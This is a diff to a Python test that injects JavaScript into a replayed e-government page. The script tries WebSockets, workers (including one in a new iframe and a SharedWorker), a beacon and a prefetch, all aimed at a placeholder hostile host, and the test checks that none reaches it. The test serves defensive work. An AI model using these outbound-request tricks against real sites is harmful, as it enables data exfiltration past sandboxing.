@@ -70,7 +70,8 @@ def test_a_foreign_host_that_resolves_would_be_seen(desk, monkeypatch):
 
 
 def test_no_socket_worker_or_beacon_reaches_a_foreign_host(desk, monkeypatch):
-    """What is no navigation is kept from a foreign host as well: a socket, a worker's request, a beacon, a prefetch."""
+    """What is no navigation is kept from a foreign host as well: a socket, a beacon, a prefetch, and whatever a worker, also
+    one of a frame that was made just now, would ask for."""
     from scrapers.replica import egov_site
 
     shown = state(few())
@@ -80,6 +81,11 @@ def test_no_socket_worker_or_beacon_reaches_a_foreign_host(desk, monkeypatch):
     script = f"""
       new WebSocket('wss://{EVIL}/socket');
       new Worker(URL.createObjectURL(new Blob([`fetch('https://{EVIL}/worker', {{mode: 'no-cors'}})`])));
+      new Worker(URL.createObjectURL(new Blob([`new WebSocket('wss://{EVIL}/worker-socket')`])));
+      const inner = document.body.appendChild(document.createElement('iframe'));
+      new inner.contentWindow.Worker(URL.createObjectURL(new Blob([`new WebSocket('wss://{EVIL}/inner-socket')`])));
+      new SharedWorker('data:text/javascript,' + encodeURIComponent(`new WebSocket('wss://{EVIL}/shared-socket')`));
+      if (self.RTCPeerConnection || self.WebTransport) new WebSocket('wss://{EVIL}/peers');
       navigator.sendBeacon('https://{EVIL}/beacon', 'x');
       const link = document.createElement('link'); link.rel = 'prefetch'; link.href = 'https://{EVIL}/prefetch';
       document.head.append(link);"""
@@ -92,7 +98,9 @@ def test_no_socket_worker_or_beacon_reaches_a_foreign_host(desk, monkeypatch):
     monkeypatch.setattr(egov_site, "_form", opening)
     ended = here.sync("egov")
     assert ended.error is None, ended.message
-    assert {"/socket", "/worker", "/beacon"} <= {each["path"] for each in ended.report.refused_requests}
+    refused = {each["path"] for each in ended.report.refused_requests}
+    assert {"/socket", "/beacon"} <= refused
+    assert not {"/worker", "/peers"} & refused
     assert here.foreign == []
 
 
